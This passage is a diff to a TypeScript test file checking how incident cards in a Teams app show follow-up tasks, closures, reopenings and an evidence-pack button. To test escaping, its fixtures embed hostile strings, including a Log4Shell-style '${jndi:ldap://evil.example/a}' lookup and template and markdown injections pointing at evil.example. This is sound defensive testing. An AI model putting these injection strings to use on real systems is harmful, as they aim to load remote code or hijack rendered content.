@@ -1,14 +1,17 @@
 import { describe, expect, it } from 'vitest';
 import { route, type Decision, type QuestionToReporter } from '../../src/domain/handling.ts';
-import type { Incident } from '../../src/domain/incident.ts';
+import type { Incident, IncidentStatus } from '../../src/domain/incident.ts';
+import type { Closure, Reopening, Task } from '../../src/domain/lifecycle.ts';
 import { gradeReport, gradingFactsFrom, type Grading } from '../../src/domain/policy/grade.ts';
 import type { Finding } from '../../src/domain/policy/guard.ts';
 import type { EvidenceFile, ReportFacts } from '../../src/domain/report.ts';
 import { DEFAULT_POLICY } from '../../src/policy/default.ts';
-import { incidentCard, plainText, reporterQuestionCard, reporterUpdateCard, type IncidentCardOptions } from '../../src/views/index.ts';
+import { evidencePackCard, incidentCard, plainText, reporterQuestionCard, reporterUpdateCard, type IncidentCardOptions } from '../../src/views/index.ts';
 import { INCIDENT_INPUTS, INCIDENT_VERBS } from '../../src/views/verbs.ts';
 import {
+  DOWNLOAD_ACTION,
   INCIDENT_DATA_KEYS,
+  TASK_DATA_KEYS,
   TEAMS_MAX_BYTES,
   actions,
   body,
@@ -209,7 +212,7 @@ const USER_TEXT = [
 const showCards = (card: Json) => ((card.actions as Json[] | undefined) ?? []).filter((a) => a.type === 'Action.ShowCard');
 const showCard = (card: Json, title: string) => showCards(card).find((a) => a.title === title);
 const executes = (card: Json) => actions(card).filter((a) => a.type === 'Action.Execute');
-const decisionExecutes = (card: Json) => executes(card).filter((a) => a.verb !== INCIDENT_VERBS.refresh);
+const decisionExecutes = (card: Json) => executes(card).filter((a) => a.verb !== INCIDENT_VERBS.refresh && a.verb !== INCIDENT_VERBS.pack);
 const verbsIn = (node: Json) => executes(node).map((a) => a.verb);
 const section = (card: Json, id: string) => body(card).find((e) => e.type === 'Container' && e.id === id);
 const all = (card: Json) => texts(card).join('\n') + '\n' + JSON.stringify(elements(card).filter((e) => e.type === 'FactSet'));
@@ -315,7 +318,7 @@ describe('the card checker, on incident cards', () => {
     ['an input without an id inside a ShowCard', (c) => subBody(c).push({ type: 'Input.Text', label: 'X' }), /parse|validate/],
     ['an unlabelled input inside a ShowCard', (c) => subBody(c).push({ type: 'Input.Text', id: 'x2' }), /has no label/],
     ['a duplicate input id across ShowCards', (c) => subBody(c).push({ type: 'Input.Text', id: 'question', label: 'Again' }), /validate/],
-    ['an unknown verb inside a ShowCard', (c) => subBody(c).push({ type: 'ActionSet', actions: [{ type: 'Action.Execute', title: 'X', verb: 'incident.close', data: { practiceId: 'p', reference: 'r', version: 1 } }] }), /unknown verb/],
+    ['an unknown verb inside a ShowCard', (c) => subBody(c).push({ type: 'ActionSet', actions: [{ type: 'Action.Execute', title: 'X', verb: 'incident.delete', data: { practiceId: 'p', reference: 'r', version: 1 } }] }), /unknown verb/],
     ['a role in action data', (c) => (firstExecuteData(c).role = 'manager'), /not exactly/],
     ['a missing version', (c) => delete firstExecuteData(c).version, /not exactly|version/],
     ['a version sent as text', (c) => (firstExecuteData(c).version = '1'), /version is not a whole number/],
@@ -563,7 +566,7 @@ describe('incident card decider view', () => {
 
   it('action titles are plain', () => {
     const card = incidentCard(routed(), options());
-    expect(executes(card).map((a) => a.title)).toEqual(['Refresh', 'Confirm no response', 'Check reply', 'Approve reply', 'Record actions', 'Assign', 'Send question']);
+    expect(executes(card).map((a) => a.title)).toEqual(['Refresh', 'Evidence pack', 'Confirm no response', 'Check reply', 'Approve reply', 'Record actions', 'Assign', 'Send question']);
   });
 
   it('no response: a required reason', () => {
@@ -650,8 +653,10 @@ describe('incident card decider view', () => {
       expect(problems(card, { userText: USER_TEXT })).toEqual([]);
       expect(showCards(card)).toEqual([]);
       for (const id of Object.values(sectionOf)) expect(section(card, id)).toBeDefined();
-      // "answer" is not an input of the incident card: it is told at the top.
-      expect(texts(body(card)[0]!)).toEqual(['Please fix the highlighted answers below.', plainText(ALL_ERRORS.answer)]);
+      // "answer" is not an input of the incident card, and there is no task to mark done or
+      // incident to close or reopen: those are told at the top.
+      const elsewhere = [INCIDENT_INPUTS.answer, INCIDENT_INPUTS.taskOutcomePrefix, INCIDENT_INPUTS.closeOutcome, INCIDENT_INPUTS.lessonsLearnt, INCIDENT_INPUTS.reopenReason];
+      expect(texts(body(card)[0]!)).toEqual(['Please fix the highlighted answers below.', ...elsewhere.map((id) => plainText(ALL_ERRORS[id]!))]);
     });
 
     it('an error for an input the card does not show goes to the top, and nothing opens', () => {
@@ -735,8 +740,10 @@ describe('incident card read-only view', () => {
     expect(readonly.actions).toEqual([]);
     expect(texts(readonly)).toContain(plainText(FACTS.what.postText));
     expect(texts(readonly)).not.toContain('Your decision');
-    // The same information as the decider sees, minus the decision area.
-    const shared = (c: Json) => texts({ body: body(c) }).filter((t) => t !== 'Your decision' && !t.startsWith('Open one of the options'));
+    expect(texts(readonly)).not.toContain('Evidence pack');
+    // The same information as the decider sees, minus the decision area and the evidence pack.
+    const deciderOnly = ['Your decision', 'Evidence pack', 'Open one of the options', 'One file with the incident'];
+    const shared = (c: Json) => texts({ body: body(c) }).filter((t) => !deciderOnly.some((d) => t.startsWith(d)));
     expect(shared(readonly)).toEqual(shared(decider));
   });
 
@@ -901,5 +908,573 @@ describe('reporter update card', () => {
     expect(texts(card)).toContain('Please post this reply');
     expect(inputs(card)).toEqual([expect.objectContaining({ type: 'Input.Text', value: reply, isMultiline: true })]);
     expect(executes(card).map((a) => a.associatedInputs)).toEqual(['none']);
+  });
+});
+
+// ---- follow-through: tasks, closing, reopening, the evidence pack ------------------------------------
+
+const OWNER = { aadObjectId: 'aad-owner', name: 'Mary Owner' };
+const REPORTER = { aadObjectId: 'aad-reporter', name: 'Sam Reception' };
+/** 17:00 on the day: t1 (due 16:00) is overdue, t2 (due 21:00) is not. */
+const LATER = new Date('2026-11-03T17:00:00Z');
+
+const TASKS: Task[] = [
+  { id: 't1', actionId: 'report-to-platform', title: 'Report the post to the platform', owner: OWNER, dueAt: '2026-11-03T16:00:00Z', status: 'open' },
+  { id: 't2', actionId: 'public-reply', title: 'Post the approved reply in the same comment stream', owner: REPORTER, dueAt: '2026-11-03T21:00:00Z', status: 'open' },
+  {
+    id: 't3',
+    actionId: 'support-colleague',
+    title: 'Support the colleague who was targeted',
+    owner: MANAGER,
+    dueAt: '2026-11-03T18:00:00Z',
+    status: 'done',
+    outcome: 'Spoke to **Jo** [link](http://evil.example) ${$root.reference}',
+    doneBy: MANAGER,
+    doneAt: '2026-11-03T16:30:00Z',
+  },
+];
+
+/** Decided (actions), with tasks, in the given status. */
+function followedUp(opts: { tasks?: Task[]; status?: IncidentStatus; closure?: Closure; reopenings?: Reopening[]; severity?: Grading['severity'] } = {}): Incident {
+  const base = decided(DECISIONS.actions!);
+  const handling = base.handling!;
+  return {
+    ...base,
+    status: opts.status ?? 'in-progress',
+    handling: {
+      ...handling,
+      version: 5,
+      tasks: opts.tasks ?? TASKS,
+      ...(opts.closure ? { closure: opts.closure } : {}),
+      ...(opts.reopenings ? { reopenings: opts.reopenings } : {}),
+      ...(opts.severity ? { grading: { ...handling.grading!, severity: opts.severity } } : {}),
+    },
+  };
+}
+
+const CLOSURE: Closure = {
+  outcome: 'Post removed by [Facebook](http://evil.example) after report FB-123. ${$root.x}',
+  lessonsLearnt: '**Reception** to log the time a post is seen.',
+  closedBy: MANAGER,
+  closedAt: '2026-11-05T09:30:00Z',
+};
+
+/** What people typed into the follow-through samples (their `${` is data). */
+const FOLLOW_USER_TEXT = [...USER_TEXT, TASKS[2]!.outcome!, CLOSURE.outcome, CLOSURE.lessonsLearnt!];
+
+const closed = (extra: { closure?: Closure; reopenings?: Reopening[] } = {}) =>
+  followedUp({ status: 'closed', tasks: TASKS.map((t) => ({ ...t, status: 'done' as const, outcome: t.outcome ?? 'Done.', doneBy: t.doneBy ?? OWNER, doneAt: t.doneAt ?? '2026-11-04T10:00:00Z' })), closure: CLOSURE, ...extra });
+
+const taskContainer = (card: Json, title: string) =>
+  elements(card).find((e) => e.type === 'Container' && Array.isArray(e.items) && (e.items as Json[])[0]?.text === plainText(title));
+const taskDoneActions = (card: Json) => executes(card).filter((a) => a.verb === INCIDENT_VERBS.taskDone);
+const executeNamed = (card: Json, verb: string) => executes(card).filter((a) => a.verb === verb);
+
+/** Every Execute carries the ids (and taskDone its task id), with this version. */
+function expectFollowUpData(card: Json, incident: Incident): void {
+  const ids = { practiceId: incident.practiceId, reference: incident.reference, version: incident.handling?.version ?? 0 };
+  for (const a of executes(card)) {
+    if (a.verb === INCIDENT_VERBS.taskDone) {
+      expect(Object.keys(a.data as Json).sort()).toEqual([...TASK_DATA_KEYS].sort());
+      expect(a.data).toEqual({ ...ids, taskId: expect.stringMatching(/^t\d+$/) });
+    } else expect(a.data).toEqual(ids);
+  }
+}
+
+describe('incident card: follow-up tasks', () => {
+  it.each(['decider', 'readonly'] as const)('%s view: each task with its owner, due time, status; overdue in attention colour', (view) => {
+    const incident = followedUp();
+    const card = incidentCard(incident, options({ view, now: LATER }));
+    expect(problems(card, { userText: FOLLOW_USER_TEXT })).toEqual([]);
+    expect(texts(card)).toContain('Follow-up tasks');
+    expect(texts(card)).toContain('3 follow-up tasks: 1 done, 2 open, 1 overdue.');
+    expect(texts(taskContainer(card, TASKS[0]!.title)!)).toEqual(
+      expect.arrayContaining(['Report the post to the platform', 'Open · Owner: Mary Owner', 'Overdue by 1 h (due 3 Nov 2026, 16:00)']),
+    );
+    expect(textBlocks(card).find((t) => t.text === 'Overdue by 1 h (due 3 Nov 2026, 16:00)')).toMatchObject({ color: 'Attention' });
+    expect(textBlocks(card).find((t) => t.text === 'Due in 4 h, by 3 Nov 2026, 21:00')).toMatchObject({ color: 'Default' });
+    expect(texts(taskContainer(card, TASKS[2]!.title)!)).toEqual([
+      'Support the colleague who was targeted',
+      'Done · Owner: Pat Manager',
+      'Done by Pat Manager on 3 Nov 2026, 16:30 (due 3 Nov 2026, 18:00)',
+      plainText(`What happened: ${TASKS[2]!.outcome}`),
+    ]);
+    // A done task is never overdue, even when its due time has passed.
+    const afterAll = incidentCard(incident, options({ view, now: new Date('2026-11-04T12:00:00Z') }));
+    expect(texts(taskContainer(afterAll, TASKS[2]!.title)!).join('\n')).not.toMatch(/Overdue/);
+    expect(texts(afterAll)).toContain('3 follow-up tasks: 1 done, 2 open, 2 overdue.');
+    expect(liveMarkdown(all(card))).toEqual([]);
+  });
+
+  it('a task due within the hour is in warning colour; the time is UK time (BST in summer)', () => {
+    const summer = followedUp({ tasks: [{ ...TASKS[0]!, dueAt: '2026-07-01T12:30:00Z' }] });
+    const card = incidentCard(summer, options({ now: new Date('2026-07-01T12:00:00Z') }));
+    expect(textBlocks(card).find((t) => String(t.text).startsWith('Due in'))).toMatchObject({ text: 'Due in 30 min, by 1 Jul 2026, 13:30', color: 'Warning' });
+  });
+
+  it('decider view: every open task can be marked done, in its own collapsed section; done tasks cannot', () => {
+    const incident = followedUp();
+    const card = incidentCard(incident, options({ now: LATER }));
+    expect(problems(card, { userText: FOLLOW_USER_TEXT })).toEqual([]);
+    expectFollowUpData(card, incident);
+    for (const task of TASKS.slice(0, 2)) {
+      const container = taskContainer(card, task.title)!;
+      const set = (container.items as Json[]).find((e) => e.type === 'ActionSet')!;
+      const showCard = (set.actions as Json[])[0]!;
+      expect(showCard).toMatchObject({ type: 'Action.ShowCard', title: 'Mark done', id: `task-${task.id}` });
+      const sub = showCard.card as Json;
+      expect(inputs(sub)).toEqual([
+        expect.objectContaining({ type: 'Input.Text', id: `outcome_${task.id}`, label: 'What happened? (required)', isRequired: true, isMultiline: true, maxLength: 1000 }),
+      ]);
+      expect(String(inputById(sub, `outcome_${task.id}`)!.placeholder)).toMatch(/platform report reference, police reference, MDU advice, the author's reply/i);
+      expect(executes(sub).map((a) => [a.title, a.verb, a.data])).toEqual([
+        ['Mark done', INCIDENT_VERBS.taskDone, { practiceId: 'wickersley', reference: 'PW-2026-0042', version: 5, taskId: task.id }],
+      ]);
+    }
+    expect(actions(taskContainer(card, TASKS[2]!.title)!)).toEqual([]);
+    expect(inputs(card).map((i) => i.id)).toEqual(['outcome_t1', 'outcome_t2']);
+    // Tasks are not decision sections: nothing is added to the card's own actions.
+    expect(showCards(card)).toEqual([]);
+  });
+
+  it.each([
+    ['the owner', 'aad-owner'],
+    ['the owner, with the id in other case', 'AAD-OWNER'],
+  ])('read-only view, seen by %s: their task can be marked done, nobody else\'s', (_, viewer) => {
+    const incident = followedUp();
+    const card = incidentCard(incident, options({ view: 'readonly', viewerAadObjectId: viewer, now: LATER }));
+    expect(problems(card, { userText: FOLLOW_USER_TEXT })).toEqual([]);
+    expectFollowUpData(card, incident);
+    expect(inputs(card).map((i) => i.id)).toEqual(['outcome_t1']);
+    expect(taskDoneActions(card).map((a) => (a.data as Json).taskId)).toEqual(['t1']);
+    expect(actions(taskContainer(card, TASKS[1]!.title)!)).toEqual([]);
+    // Still no decision, close or reopen controls.
+    expect(showCards(card)).toEqual([]);
+    expect(executes(card).map((a) => a.verb).sort()).toEqual([INCIDENT_VERBS.refresh, INCIDENT_VERBS.taskDone].sort());
+  });
+
+  it('read-only view, seen by the reporter asked to post the reply: that task only', () => {
+    const card = incidentCard(followedUp(), options({ view: 'readonly', viewerAadObjectId: REPORTER.aadObjectId, now: LATER }));
+    expect(inputs(card).map((i) => i.id)).toEqual(['outcome_t2']);
+  });
+
+  it.each([
+    ['someone who owns no task', 'aad-stranger'],
+    ['nobody in particular', undefined],
+    ['an empty id', ''],
+  ])('read-only view, seen by %s: tasks shown, nothing to act on', (_, viewer) => {
+    const card = incidentCard(followedUp(), options({ view: 'readonly', now: LATER, ...(viewer === undefined ? {} : { viewerAadObjectId: viewer }) }));
+    expect(problems(card, { userText: FOLLOW_USER_TEXT })).toEqual([]);
+    expect(texts(card)).toContain('Report the post to the platform');
+    expect(inputs(card)).toEqual([]);
+    expect(taskDoneActions(card)).toEqual([]);
+    expect(executes(card).map((a) => a.verb)).toEqual([INCIDENT_VERBS.refresh]);
+  });
+
+  it('an owner whose task is done has nothing to act on', () => {
+    const card = incidentCard(followedUp(), options({ view: 'readonly', viewerAadObjectId: MANAGER.aadObjectId, now: LATER }));
+    expect(inputs(card)).toEqual([]);
+  });
+
+  it('an error on a task\'s outcome: that task\'s form is open in place, the error right beneath its box', () => {
+    const message = 'Say what happened [x](http://evil.example)';
+    const incident = followedUp();
+    const card = incidentCard(incident, options({ view: 'readonly', viewerAadObjectId: OWNER.aadObjectId, now: LATER, errors: { outcome_t1: message } }));
+    expect(problems(card, { userText: FOLLOW_USER_TEXT })).toEqual([]);
+    const container = taskContainer(card, TASKS[0]!.title)!;
+    expect(elements(container).filter((e) => e.type === 'Action.ShowCard')).toEqual([]);
+    const input = inputById(card, 'outcome_t1')!;
+    const { list, index } = siblings(card, input);
+    expect(list[index + 1]).toMatchObject({ type: 'TextBlock', text: plainText(message), color: 'Attention' });
+    expect(list[index + 2]).toMatchObject({ type: 'ActionSet' });
+    expect(elements(container)).toContain(input);
+    expect(texts(body(card)[0]!)).toEqual(['Please fix the highlighted answer below.']);
+    expectFollowUpData(card, incident);
+  });
+
+  it('an error on a task the viewer cannot act on goes to the top; the other forms stay collapsed', () => {
+    const card = incidentCard(followedUp(), options({ now: LATER, errors: { outcome_t3: 'Already done by Pat Manager.' } }));
+    expect(texts(body(card)[0]!)).toEqual(['Please check this:', 'Already done by Pat Manager.']);
+    expect(elements(card).filter((e) => e.type === 'Action.ShowCard').map((a) => a.id)).toEqual(['task-t1', 'task-t2']);
+  });
+
+  it('no tasks: no tasks section', () => {
+    expect(texts(incidentCard(decided(DECISIONS['no response']!), options()))).not.toContain('Follow-up tasks');
+  });
+});
+
+describe('incident card: closing', () => {
+  it.each(['in-progress', 'resolved'] as const)('%s, canClose: a collapsed "Close the incident" section', (status) => {
+    const incident = followedUp({ status });
+    const card = incidentCard(incident, options({ now: LATER, canClose: true }));
+    expect(problems(card, { userText: FOLLOW_USER_TEXT })).toEqual([]);
+    expectFollowUpData(card, incident);
+    const section = showCard(card, 'Close the incident')!;
+    expect(section).toBeDefined();
+    const sub = section.card as Json;
+    expect(inputs(sub)).toEqual([
+      expect.objectContaining({ type: 'Input.Text', id: INCIDENT_INPUTS.closeOutcome, label: 'Outcome (required)', isRequired: true, isMultiline: true, maxLength: 2000 }),
+      // Default policy: a personal attack naming staff is medium severity, so lessons are optional.
+      expect.objectContaining({ type: 'Input.Text', id: INCIDENT_INPUTS.lessonsLearnt, label: 'Lessons learnt (optional)', isRequired: false, isMultiline: true, maxLength: 2000 }),
+    ]);
+    expect(texts(sub).join(' ')).toMatch(/fed back through practice meetings.*Caergwrle/);
+    expect(executes(sub).map((a) => [a.title, a.verb])).toEqual([['Close incident', INCIDENT_VERBS.close]]);
+  });
+
+  it.each([
+    ['critical', true],
+    ['high', true],
+    ['medium', false],
+    ['low', false],
+  ] as const)('%s severity: lessons learnt required = %s', (severity, required) => {
+    const card = incidentCard(followedUp({ severity }), options({ canClose: true }));
+    expect(problems(card, { userText: FOLLOW_USER_TEXT })).toEqual([]);
+    expect(inputById(card, INCIDENT_INPUTS.lessonsLearnt)).toMatchObject({ isRequired: required, label: `Lessons learnt (${required ? 'required' : 'optional'})` });
+  });
+
+  it('says how many tasks are still open', () => {
+    const sub = showCard(incidentCard(followedUp(), options({ canClose: true })), 'Close the incident')!.card as Json;
+    expect(texts(sub)[0]).toMatch(/^2 follow-up tasks are still open/);
+    const resolved = followedUp({ status: 'resolved', tasks: [TASKS[2]!] });
+    expect(texts(showCard(incidentCard(resolved, options({ canClose: true })), 'Close the incident')!.card as Json)[0]).toBe('Record how it ended. A manager can reopen it later.');
+  });
+
+  it.each([
+    ['without canClose', followedUp(), {}],
+    ['canClose false', followedUp(), { canClose: false }],
+    ['awaiting a decision', routed(), { canClose: true }],
+    ['already closed', closed(), { canClose: true }],
+  ] as const)('no close section %s', (_, incident, extra) => {
+    const card = incidentCard(incident, options(extra));
+    expect(showCard(card, 'Close the incident')).toBeUndefined();
+    expect(executeNamed(card, INCIDENT_VERBS.close)).toEqual([]);
+    expect(inputById(card, INCIDENT_INPUTS.closeOutcome)).toBeUndefined();
+  });
+
+  it.each([INCIDENT_INPUTS.closeOutcome, INCIDENT_INPUTS.lessonsLearnt])('an error on %s: the section opens in the body, the error beneath the box', (id) => {
+    const message = `Problem [x](http://evil.example) with ${id}`;
+    const card = incidentCard(followedUp(), options({ canClose: true, errors: { [id]: message } }));
+    expect(problems(card, { userText: FOLLOW_USER_TEXT })).toEqual([]);
+    expect(showCard(card, 'Close the incident')).toBeUndefined();
+    const open = section(card, 'incident-close')!;
+    expect(texts(open)[0]).toBe('Close the incident');
+    const { list, index } = siblings(card, inputById(card, id)!);
+    expect(list).toBe(open.items);
+    expect(list[index + 1]).toMatchObject({ type: 'TextBlock', text: plainText(message), color: 'Attention' });
+    expect(verbsIn(open)).toEqual([INCIDENT_VERBS.close]);
+  });
+});
+
+describe('incident card: closed and reopened', () => {
+  it.each(['decider', 'readonly'] as const)('%s view: the closure, escaped: outcome, lessons learnt, who and when', (view) => {
+    const card = incidentCard(closed(), options({ view }));
+    expect(problems(card, { userText: FOLLOW_USER_TEXT })).toEqual([]);
+    const list = texts(card);
+    const at = list.indexOf('Closed');
+    expect(list.slice(at, at + 6)).toEqual([
+      'Closed',
+      'Closed by Pat Manager on 5 Nov 2026, 09:30',
+      'Outcome',
+      plainText(CLOSURE.outcome),
+      'Lessons learnt',
+      plainText(CLOSURE.lessonsLearnt),
+    ]);
+    expect(texts(card)).toContain('Status: Closed');
+    expect(liveMarkdown(all(card))).toEqual([]);
+  });
+
+  it('no lessons learnt recorded: says so', () => {
+    const { lessonsLearnt: _none, ...closure } = CLOSURE;
+    expect(texts(incidentCard(closed({ closure }), options()))).toContain('None recorded.');
+  });
+
+  it('reopenings: who, when and why, escaped, most recent last; more than five are counted', () => {
+    const reopenings: Reopening[] = Array.from({ length: 7 }, (_, i) => ({ by: MANAGER, at: `2026-11-0${i + 1}T10:00:00Z`, reason: `Reason ${i} **again** [x](http://evil.example)` }));
+    const card = incidentCard(followedUp({ reopenings }), options({ view: 'readonly' }));
+    expect(problems(card, { userText: FOLLOW_USER_TEXT })).toEqual([]);
+    const list = texts(card);
+    const at = list.indexOf('Reopened');
+    expect(list[at + 1]).toBe('2 earlier reopenings are kept in the record.');
+    expect(list.slice(at + 2, at + 4)).toEqual(['Reopened by Pat Manager on 3 Nov 2026, 10:00', plainText('Reason: Reason 2 **again** [x](http://evil.example)')]);
+    expect(list.filter((t) => t.startsWith('Reopened by '))).toHaveLength(5);
+    expect(list.filter((t) => t.startsWith('Reopened by ')).at(-1)).toBe('Reopened by Pat Manager on 7 Nov 2026, 10:00');
+  });
+
+  it('closed, canReopen: a collapsed Reopen section with a required reason', () => {
+    const incident = closed();
+    const card = incidentCard(incident, options({ view: 'readonly', canReopen: true }));
+    expect(problems(card, { userText: FOLLOW_USER_TEXT })).toEqual([]);
+    expectFollowUpData(card, incident);
+    const sub = showCard(card, 'Reopen')!.card as Json;
+    expect(inputs(sub)).toEqual([expect.objectContaining({ type: 'Input.Text', id: INCIDENT_INPUTS.reopenReason, isRequired: true, label: 'Why reopen it? (required)', maxLength: 2000 })]);
+    expect(executes(sub).map((a) => [a.title, a.verb])).toEqual([['Reopen', INCIDENT_VERBS.reopen]]);
+    expect(texts(sub)[0]).toBe('It goes back to "In progress"; the reason is kept with the record.');
+  });
+
+  it.each([
+    ['closed, without canReopen', closed(), {}],
+    ['in progress, canReopen', followedUp(), { canReopen: true }],
+    ['resolved, canReopen', followedUp({ status: 'resolved' }), { canReopen: true }],
+  ] as const)('no Reopen: %s', (_, incident, extra) => {
+    const card = incidentCard(incident, options(extra));
+    expect(showCard(card, 'Reopen')).toBeUndefined();
+    expect(executeNamed(card, INCIDENT_VERBS.reopen)).toEqual([]);
+    expect(inputById(card, INCIDENT_INPUTS.reopenReason)).toBeUndefined();
+  });
+
+  it('an error on the reason: Reopen opens in the body, the error beneath the box', () => {
+    const card = incidentCard(closed(), options({ canReopen: true, errors: { reopenReason: 'Say why [x](http://evil.example)' } }));
+    expect(problems(card, { userText: FOLLOW_USER_TEXT })).toEqual([]);
+    const open = section(card, 'incident-reopen')!;
+    const { list, index } = siblings(card, inputById(card, INCIDENT_INPUTS.reopenReason)!);
+    expect(list).toBe(open.items);
+    expect(list[index + 1]).toMatchObject({ type: 'TextBlock', text: plainText('Say why [x](http://evil.example)'), color: 'Attention' });
+  });
+
+  it('a closed incident offers neither decisions nor marking tasks done', () => {
+    const card = incidentCard(closed(), options({ canReopen: true, canClose: true }));
+    expect(inputs(card).map((i) => i.id)).toEqual([INCIDENT_INPUTS.reopenReason]);
+  });
+});
+
+describe('incident card: the evidence pack', () => {
+  const packs = (card: Json) => executeNamed(card, INCIDENT_VERBS.pack);
+
+  it.each([
+    ['decider, undecided', () => incidentCard(routed(), options())],
+    ['decider, in progress', () => incidentCard(followedUp(), options())],
+    ['decider, closed', () => incidentCard(closed(), options())],
+    ['read-only, closed, a manager who can reopen', () => incidentCard(closed(), options({ view: 'readonly', canReopen: true }))],
+    ['read-only, closed, a decider who can close', () => incidentCard(closed(), options({ view: 'readonly', canClose: true }))],
+  ])('%s: an "Evidence pack" button with the incident ids only, no inputs', (_, make) => {
+    const card = make();
+    expect(problems(card, { userText: FOLLOW_USER_TEXT })).toEqual([]);
+    expect(packs(card)).toHaveLength(1);
+    const pack = packs(card)[0]!;
+    expect(pack).toMatchObject({ title: 'Evidence pack', data: { practiceId: 'wickersley', reference: 'PW-2026-0042', version: expect.any(Number) } });
+    expect(Object.keys(pack.data as Json).sort()).toEqual([...INCIDENT_DATA_KEYS].sort());
+    expect(pack.associatedInputs === undefined || pack.associatedInputs === 'none').toBe(true);
+    const container = body(card).find((e) => elements(e).includes(pack))!;
+    expect(inputs(container)).toEqual([]);
+  });
+
+  it.each([
+    ['read-only, undecided', () => incidentCard(routed(), options({ view: 'readonly' }))],
+    ['read-only, in progress, the task owner', () => incidentCard(followedUp(), options({ view: 'readonly', viewerAadObjectId: OWNER.aadObjectId }))],
+    ['read-only, closed, nobody in particular', () => incidentCard(closed(), options({ view: 'readonly' }))],
+  ])('%s: no evidence pack', (_, make) => {
+    const card = make();
+    expect(packs(card)).toEqual([]);
+    expect(texts(card)).not.toContain('Evidence pack');
+  });
+});
+
+describe('incident card: follow-through text is data', () => {
+  function pair(view: IncidentCardOptions['view'], status: IncidentStatus): [Json, Json] {
+    const make = (t: (s: string) => string) => {
+      const tasks: Task[] = [
+        { ...TASKS[0]!, title: t(HOSTILE_SHORT), owner: { ...OWNER, name: t(HOSTILE_SHORT) } },
+        { ...TASKS[2]!, outcome: t(HOSTILE), doneBy: { ...MANAGER, name: t(HOSTILE_SHORT) } },
+      ];
+      const closure: Closure = { outcome: t(HOSTILE), lessonsLearnt: t(HOSTILE), closedBy: { ...MANAGER, name: t(HOSTILE_SHORT) }, closedAt: '2026-11-05T09:30:00Z' };
+      const reopenings: Reopening[] = [{ by: { ...MANAGER, name: t(HOSTILE_SHORT) }, at: '2026-11-04T09:00:00Z', reason: t(HOSTILE) }];
+      const incident = followedUp({ status, tasks: status === 'closed' ? tasks.map((x) => ({ ...x, status: 'done' as const })) : tasks, reopenings, ...(status === 'closed' ? { closure } : {}) });
+      return incidentCard(
+        incident,
+        options({
+          view,
+          viewerAadObjectId: OWNER.aadObjectId,
+          canClose: true,
+          canReopen: true,
+          now: LATER,
+          errors: { outcome_t1: t(HOSTILE_SHORT), closeOutcome: t(HOSTILE_SHORT), lessonsLearnt: t(HOSTILE_SHORT), reopenReason: t(HOSTILE_SHORT) },
+        }),
+      );
+    };
+    return [make((x) => x), make((x) => x.replace(/[^\n]/g, 'a'))];
+  }
+
+  it.each([
+    ['decider', 'in-progress'],
+    ['readonly', 'in-progress'],
+    ['decider', 'closed'],
+    ['readonly', 'closed'],
+  ] as const)('%s, %s: outcomes, lessons, reasons and names stay literal', (view, status) => {
+    const [hostile, benign] = pair(view, status);
+    expect(problems(hostile, { userText: USER_TEXT })).toEqual([]);
+    expect(shape(hostile)).toEqual(shape(benign));
+    const shown = all(hostile);
+    expect(liveMarkdown(shown)).toEqual([]);
+    expect(shown).toContain('${jndi:ldap://evil.example/a}');
+    expect(shown).not.toContain('Shortened to fit');
+    expect(texts(hostile)).toContain(plainText(`Reason: ${HOSTILE}`));
+    if (status === 'closed') expect(texts(hostile).filter((t) => t === plainText(HOSTILE))).toHaveLength(2);
+    else expect(texts(hostile)).toContain(plainText(`What happened: ${HOSTILE}`));
+    expect(JSON.stringify(hostile)).not.toContain('"Action.OpenUrl","url"');
+  });
+});
+
+// ---- the worst case with the follow-through ------------------------------------------------------------
+
+const LONG_OUTCOME = (HOSTILE + '\n').repeat(10).slice(0, 1_000);
+const LONG_CLOSURE = (HOSTILE + '\n').repeat(20).slice(0, 2_000);
+
+function worstFollowThrough(opts: { status: 'in-progress' | 'closed'; openTasks: number }): Incident {
+  const base = hostileIncident({ questions: 10, screenshots: 25, decision: { ...DECISIONS.actions!, by: { aadObjectId: 'aad-manager', name: HOSTILE_SHORT } } });
+  const tasks: Task[] = Array.from({ length: 15 }, (_, i) => {
+    const task: Task = {
+      id: `t${i + 1}`,
+      actionId: `action-${i}`,
+      // Titles come from the practice's policy (the recommended actions), not from anyone's typing.
+      title: 'Ask the author to remove the post, and keep a copy of the request',
+      owner: { aadObjectId: i % 2 === 0 ? OWNER.aadObjectId : 'aad-other', name: HOSTILE_SHORT },
+      dueAt: '2026-11-03T16:00:00Z',
+      status: 'open',
+    };
+    return i < opts.openTasks ? task : { ...task, status: 'done', outcome: LONG_OUTCOME, doneBy: { aadObjectId: 'aad-other', name: HOSTILE_SHORT }, doneAt: '2026-11-04T10:00:00Z' };
+  });
+  const reopenings: Reopening[] = Array.from({ length: 7 }, (_, i) => ({ by: { aadObjectId: 'aad-manager', name: HOSTILE_SHORT }, at: `2026-11-0${i + 1}T10:00:00Z`, reason: LONG_CLOSURE }));
+  const closure: Closure = { outcome: LONG_CLOSURE, lessonsLearnt: LONG_CLOSURE, closedBy: { aadObjectId: 'aad-manager', name: HOSTILE_SHORT }, closedAt: '2026-11-05T09:30:00Z' };
+  return {
+    ...base,
+    status: opts.status,
+    handling: { ...base.handling!, tasks, reopenings, ...(opts.status === 'closed' ? { closure } : {}) },
+  };
+}
+
+/** Every error there can be: one on every input, and one on every task's outcome. */
+function worstOptions(view: IncidentCardOptions['view']): IncidentCardOptions {
+  const errors = { ...ALL_ERRORS, ...Object.fromEntries(Array.from({ length: 15 }, (_, i) => [`outcome_t${i + 1}`, ALL_ERRORS.question!])) };
+  return { ...hostileOptions(view), now: LATER, viewerAadObjectId: OWNER.aadObjectId, canClose: true, canReopen: true, errors };
+}
+
+const WORST_USER_TEXT = [...USER_TEXT, LONG_OUTCOME, LONG_CLOSURE];
+
+describe('incident card: worst case with tasks, closure and reopenings', () => {
+  const variants: Array<[string, () => [Incident, IncidentCardOptions]]> = [
+    ['decider, closed, 15 done tasks with long outcomes, 2,000-character closure, 7 reopenings', () => [worstFollowThrough({ status: 'closed', openTasks: 0 }), worstOptions('decider')]],
+    ['read-only manager, closed', () => [worstFollowThrough({ status: 'closed', openTasks: 0 }), worstOptions('readonly')]],
+    ['decider, in progress, 15 tasks (8 open, every one with an error)', () => [worstFollowThrough({ status: 'in-progress', openTasks: 8 }), worstOptions('decider')]],
+    ['decider, in progress, 15 open tasks with errors', () => [worstFollowThrough({ status: 'in-progress', openTasks: 15 }), worstOptions('decider')]],
+    ['decider, in progress, 15 open tasks, no errors', () => [worstFollowThrough({ status: 'in-progress', openTasks: 15 }), { ...worstOptions('decider'), errors: {} }]],
